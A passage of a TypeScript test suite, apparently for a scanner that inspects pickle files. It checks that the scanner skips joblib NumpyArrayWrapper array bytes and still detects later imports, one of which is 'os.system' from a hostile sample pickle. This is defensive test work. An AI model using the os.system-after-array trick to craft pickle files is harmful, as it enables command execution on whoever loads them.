    ['plain', raw, false],
    ['with a padding prefix', b.pickle([3, 0xff, 0xff, 0xff], raw), true],
  ])('with the pause, the %s array bytes are skipped and the scan goes on', (_, data, paddingPrefix) => {
    const builds: string[] = [];
    const options = {
      pauseAfterBuildOf: [wrapper],
      onBuildPause: (build: PickleCall) => {
        const stateValue = build.args?.[0];
        const shape = stateValue?.kind === 'dict' ? stateValue.entries.find(([key]) => stringValue(key) === 'shape')?.[1] : undefined;
        builds.push(`${build.callable?.name} ${JSON.stringify(shape)}`);
        const count = shape?.kind === 'tuple' && shape.items[0].kind === 'int' ? (shape.items[0].value ?? 0) * 2 : 0;
        return { bytes: count, paddingPrefix };
      },
    };
    const bytes = b.pickle(head, data, tail);
    for (const chunks of [[], [1], [3, 5]]) {
      builds.length = 0;
      const result = scan(bytes, options, chunks);
      expect(result.errors).toEqual([]);
      expect(importNames(result)).toEqual(['joblib.numpy_pickle.NumpyArrayWrapper', 'os.system']);
      expect(builds).toEqual(['NumpyArrayWrapper {"kind":"tuple","length":1,"items":[{"kind":"int","value":4,"exact":true}],"complete":true}']);
    }
  });

  it('a BUILD on another class does not pause', () => {
    let pauses = 0;
    const result = scan(b.pickle(b.proto(2), b.global('m', 'Other'), b.emptyTuple(), b.newobj(), b.emptyDict(), b.build(), b.stop()), {
      pauseAfterBuildOf: [wrapper],
      onBuildPause: () => {
        pauses++;
        return { bytes: 5 };
      },
    });
    expect(pauses).toBe(0);
    expect(result.errors).toEqual([]);
  });
});
